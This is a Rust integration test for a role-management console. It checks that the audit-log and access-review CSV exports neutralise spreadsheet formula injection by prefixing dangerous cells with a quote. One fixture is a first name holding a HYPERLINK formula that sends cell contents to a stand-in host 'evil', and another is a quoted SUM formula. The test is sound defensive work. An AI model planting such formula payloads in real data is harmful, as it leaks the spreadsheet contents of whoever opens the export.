//! The console's CSV downloads open in a spreadsheet without running
//! anything: a cell a spreadsheet would run as a formula, or one already
//! led by a `'` before such a character, is led by one more `'`.

use reqwest::Method;
use rolecall_store::{AuditEntry, Batch};
use serde_json::json;

use crate::document::{sign_in_with_temporary_password, Session};
use crate::helpers::{spawn_app, Backend, TestApp};

on_every_backend!(the_audit_and_access_review_downloads_neutralise_formulas);

/// What an insider typed as a first name: a formula, already quoted the
/// way a spreadsheet user would, so that a reader which strips one `'`
/// would still run it.
const NAME: &str = "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")";

/// An audit target beginning with a quoted formula.
const TARGET: &str = "'+SUM(A1:A9)";

async fn the_audit_and_access_review_downloads_neutralise_formulas(backend: Backend) {
    // Arrange
    let app = spawn_app(&backend).await;
    app.create_org("acme", &["web.billing"]).await;
    app.post_json(
        &app.operator,
        "/v1/orgs/acme/employees",
        &json!({ "id": "eve", "first_name": NAME, "last_name": "Insider",
                 "email": "eve@acme.test" }),
    )
    .await
    .expect(201);
    app.post_json(
        &app.operator,
        "/v1/orgs/acme/users",
        &json!({ "id": "eve", "employee_id": "eve", "roles": ["web.office_staff"] }),
    )
    .await
    .expect(201);
    app.activate("acme", "eve").await;
    let entry = AuditEntry {
        actor: "user:eve".to_owned(),
        action: "group.update".to_owned(),
        org: Some("acme".to_owned()),
        target: TARGET.to_owned(),
        ..AuditEntry::default()
    };
    app.service
        .store()
        .record(
            "user:eve",
            "test",
            Batch {
                audit: &[entry],
                ..Default::default()
            },
        )
        .await
        .unwrap();
    app.create_user("acme", "aud", json!({ "roles": ["rolecall.auditor"] }))
        .await;
    let session = signed_in(&app, "aud@acme.test").await;

    // Act
    let audit = download(&app, &session, "/audit.csv?org=acme").await;
    let review = download(&app, &session, "/access-review.csv?org=acme").await;

    // Assert
    let targets: Vec<&str> = audit.iter().map(|row| row[5].as_str()).collect();
    assert!(targets.contains(&"''+SUM(A1:A9)"), "{targets:?}");
    let names: Vec<&str> = review.iter().map(|row| row[2].as_str()).collect();
    assert!(
        names.contains(&format!("'{NAME} Insider").as_str()),
        "{names:?}"
    );
    for row in audit.iter().chain(&review) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run `{cell}`"
            );
        }
    }
}

/// A full console session: signed in with the temporary password, then a
/// password of their own chosen.
async fn signed_in(app: &TestApp, email: &str) -> Session {
    let session = sign_in_with_temporary_password(app, email).await;
    app.send(
        Method::POST,
        "/v1/account/password",
        None,
        &[
            ("Cookie", session.cookie.as_str()),
            ("X-CSRF-Token", session.csrf.as_str()),
        ],
        Some(&json!({ "new_password": "a phrase the auditor chose 7" })),
    )
    .await
    .expect(200);
    session
}

/// The rows of a console CSV download, the header first.
async fn download(app: &TestApp, session: &Session, path: &str) -> Vec<Vec<String>> {
    let reply = app
        .send(
            Method::GET,
            path,
            None,
            &[("Cookie", session.cookie.as_str())],
            None,
        )
        .await
        .expect(200);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(reply.text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}
